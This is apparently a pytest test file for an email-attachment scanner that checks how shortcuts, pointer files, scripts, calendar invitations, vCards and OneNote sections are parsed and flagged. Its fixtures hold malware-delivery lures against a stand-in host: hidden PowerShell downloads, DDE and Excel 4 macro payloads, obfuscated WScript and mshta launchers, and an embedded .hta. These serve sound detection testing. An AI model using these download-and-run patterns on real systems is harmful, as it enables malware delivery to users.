"""Shortcuts, pointers, scripts, calendars, OneNote: small files that start or lead to something."""

import base64

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests import office_files as made
from tests.damage import damaged
from tests.test_observe_files_office import links, looked, text
from watchword.observe import calendar
from watchword.observe.attachments import attachments
from watchword.observe.files import Budget, File, look_into
from watchword.observe.links import links as links_of
from watchword.observe.text import texts as texts_of
from watchword.parse.message import parse


def test_shortcuts() -> None:
    """Of a Windows shortcut the program, its arguments and its icon are known, and the addresses in them."""
    found = looked(
        made.shortcut(
            "Agenda",
            "..\\..\\Windows\\System32\\cmd.exe",
            "/c powershell -w hidden iwr https://stage.example/a.ps1",
            "\\\\share.example\\icons\\pdf.ico",
        )
    )
    assert found.contains == ["runs-program", "remote-file"]
    assert "arguments: /c powershell" in text(found, "lnk")
    assert {raw: where for raw, (where, _) in links(found).items()} == {
        "https://stage.example/a.ps1": "shortcut",
        "\\\\share.example\\icons\\pdf.ico": "shortcut",
    }


LIBRARY = (
    '<?xml version="1.0"?><libraryDescription xmlns="http://schemas.microsoft.com/windows/2009/library">'
    "<simpleLocation><url>https://stage.example/dav</url></simpleLocation></libraryDescription>"
)
MANIFEST = (
    '<?xml version="1.0"?><asmv1:assembly xmlns:asmv1="urn:schemas-microsoft-com:asm.v1"><deployment>'
    '<deploymentProvider codebase="https://stage.example/a.application"/></deployment></asmv1:assembly>'
)
POINTERS = {
    "a.url": ("[InternetShortcut]\r\nURL=https://stage.example/\r\n", [], "https://stage.example/"),
    "b.url": ("[InternetShortcut]\r\nURL=file://stage.example/x/a.exe\r\n", ["remote-file"], "file://stage.example/x/a.exe"),
    "a.desktop": ("[Desktop Entry]\nExec=sh -c 'curl https://stage.example/x'\n", ["runs-program"], "https://stage.example/x"),
    "a.webloc": ("<?xml version='1.0'?><plist><string>https://stage.example/</string></plist>", [], "https://stage.example/"),
    "a.library-ms": (LIBRARY, ["remote-file"], "https://stage.example/dav"),
    "a.application": (MANIFEST, ["runs-program"], "https://stage.example/a.application"),
    "a.appref-ms": ("https://stage.example/a.application#A", ["runs-program"], "https://stage.example/a.application#A"),
    "a.iqy": ("WEB\n1\nhttps://stage.example/q\n", ["external-object"], "https://stage.example/q"),
    "a.csv": ('a;=HYPERLINK("https://stage.example/","Go")\n', [], "https://stage.example/"),
    "b.csv": ("a,\"=cmd|'/c calc'!A0\"\n", ["dde"], ""),
    "c.csv": ("name,mail\nAna,ana@larkfield.example\n-5,+3\n", [], ""),
    "a.slk": (
        'ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;EEXEC("cmd")\n',
        ["macros", "excel4-macros", "macro-runs-on-open"],
        "",
    ),
    "a.rdp": ("full address:s:stage.example\r\ndrivestoredirect:s:*\r\n", ["remote-desktop"], "rdp://stage.example"),
    "a.msc": ("<?xml version='1.0'?><MMC_ConsoleFile/>", ["runs-program"], ""),
    "a.txt": ("Notes of our meeting\n", [], ""),
}  # fmt: skip


@pytest.mark.parametrize("name", POINTERS)
def test_files_that_point_elsewhere(name: str) -> None:
    """Small files that open an address, a folder elsewhere or a program say so; tables and notes do not."""
    source, marks, address = POINTERS[name]
    found = looked(source.encode(), name)
    assert found.contains == marks
    assert not address or address in links(found)


@pytest.mark.parametrize(
    ("name", "source"),
    [
        ("a.js", "var u = 'https://stage.exa' + 'mple/x'; new ActiveXObject('WScript.Shell').Run(u)"),
        ("a.vbs", 'u = "https://stage" & Chr(46) & "example/x" \' go\nCreateObject("WScript.Shell").Run u'),
        ("a.vbs", 'u = StrReverse("x/elpmaxe.egats//:sptth")'),
        ("a.ps1", "iwr https://stage.example/x -OutFile a.exe"),
        ("a.bat", f"powershell -enc {base64.b64encode('iwr https://stage.example/x'.encode('utf-16-le')).decode()}"),
        ("a.hta", '<html><script language=vbscript>u = "https://stage.example/" & "x"</script></html>'),
        ("a.wsf", "<job><script language='JScript'>var u = 'https://stage.example/x'</script></job>"),
        ("a.reg", 'Windows Registry Editor\n"Run"="mshta https://stage.example/x"\n'),
    ],
)
def test_scripts(name: str, source: str) -> None:
    """A script's text is kept, and the address that it uses is a link, also where it is put together or coded."""
    found = looked(source.encode(), name)
    assert "script" in found.contains
    assert source[:20] in found.texts[0].text
    assert "https://stage.example/x" in links(found)


def test_scripts_of_the_encoder() -> None:
    """A script that Microsoft's encoder made is marked, though it is not read."""
    assert "obfuscated" in looked(b"#@~^BgAAAA==msgbox\x7f^#~@", "a.vbe").contains


EVENT = (
    "BEGIN:VCALENDAR\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\nSUMMARY:Budget\\, urgent\r\n"
    'ORGANIZER;CN="Ana Ruiz";SENT-BY="mailto:x@stage.example":mailto:ana@larkfield.example\r\n'
    "DESCRIPTION:Join at https://meet.stage.exam\r\n ple/a-long-path\\nSee you\r\nATTACH:https://stage.example/f.pdf\r\n"
    f"ATTACH;ENCODING=BASE64;FILENAME=plan.png:{base64.b64encode(made.PNG).decode()}\r\n"
    'X-ALT-DESC;FMTTYPE=text/html:<p>Or <a href="https://alt.example/">here</a></p>\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
)


def test_calendars() -> None:
    """Of an invitation words, people, addresses across folded lines, and files are read."""
    found = looked(EVENT.encode(), "invite.ics")
    assert text(found, "calendar") == (
        "Budget, urgent\nOrganizer: Ana Ruiz <ana@larkfield.example> by <x@stage.example>\n"
        "Join at https://meet.stage.example/a-long-path\nSee you\nOr here"
    )
    assert links(found) == {
        "mailto:ana@larkfield.example": ("calendar", "Ana Ruiz"),
        "https://stage.example/f.pdf": ("calendar", "https://stage.example/f.pdf"),
        "https://alt.example/": ("a", "here"),
    }
    assert [(held.name, held.data) for held in found.files] == [("plan.png", made.PNG)]


@pytest.mark.parametrize(
    "head", ["text/calendar; method=REQUEST", "text/calendar; name=a.ics", "application/ics; name=a.ics"]
)
def test_a_calendar_is_read_once(head: str) -> None:
    """An invitation that is part of the message, has a name besides, or is attached gives the same rows, once."""
    message = parse(f"From: ann@example.org\r\nContent-Type: {head}\r\n\r\n{EVENT}".encode())
    files = attachments(message, "k")
    parts = {row.number: row.part for row in files.rows}
    rows = texts_of(message, "k", parts, files.contents)
    assert [row.kind for row in rows] == ["calendar"]
    assert rows[0].written.startswith("Budget, urgent")
    found = [link.url for link in links_of(message, "k", [], parts, files.contents) if link.host]
    assert sorted(found) == [
        "https://alt.example/",
        "https://meet.stage.example/a-long-path",
        "https://stage.example/f.pdf",
    ]


def test_cards() -> None:
    """A card gives its words and picture, also in the old form that names the coding alone."""
    found = looked(
        b"BEGIN:VCARD\r\nVERSION:2.1\r\nFN:Ana Ruiz\r\nNOTE;ENCODING=QUOTED-PRINTABLE:Caf=C3=\r\n=A9\r\nURL:https://card.example/\r\n"
        b"PHOTO;BASE64:" + base64.b64encode(made.PNG) + b"\r\nEND:VCARD\r\n",
        "a.vcf",
    )
    assert text(found, "vcard") == "Ana Ruiz\nCafé"
    assert set(links(found)) == {"https://card.example/"}
    assert [held.data for held in found.files] == [made.PNG]


def test_one_note() -> None:
    """Of a section of OneNote the files in it come out, with their names, and its text."""
    found = looked(
        made.section(b"<script>run()</script>", made.PNG, text="Double click to view\0\0open me.hta"), "a.one"
    )
    assert [(held.name, held.data) for held in found.files] == [
        ("open me.hta", b"<script>run()</script>"),
        ("2.img", made.PNG),
    ]
    assert found.contains == ["embedded-file"]
    assert "Double click to view" in text(found, "one")


SAMPLES = {
    "lnk": made.shortcut("a", "b", "c https://stage.example/", "d"),
    "one": made.section(b"<script>", text="words and words"),
    "ics": EVENT.encode(),
    "xml": LIBRARY.encode(),
    "url": POINTERS["a.url"][0].encode(),
    "slk": POINTERS["a.slk"][0].encode(),
    "csv": POINTERS["b.csv"][0].encode(),
    "vbs": b'u = "https://stage" & Chr(46) & "example/x"',
    "plist": b"bplist00\xd1\x01\x02https://stage.example/",
    "mhtml": b"Content-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>a\r\n--b--",
}


@settings(max_examples=150, deadline=None)
@given(st.sampled_from(sorted(SAMPLES)), st.data())
def test_damaged_small_files(kind: str, data: st.DataObject) -> None:
    """A small file that was cut, doubled or overwritten anywhere is looked into without a fault."""
    contents = look_into(File(kind, "a", damaged(data, SAMPLES[kind])), Budget())
    assert contents is not None
    assert "file-not-read" not in dict(contents.defects), contents.defects


@given(st.text(max_size=300))
def test_any_calendar(source: str) -> None:
    """No text makes the reading of a calendar fail."""
    calendar.read(source)
    calendar.read(source.replace("a", ":").replace("b", "\n"))
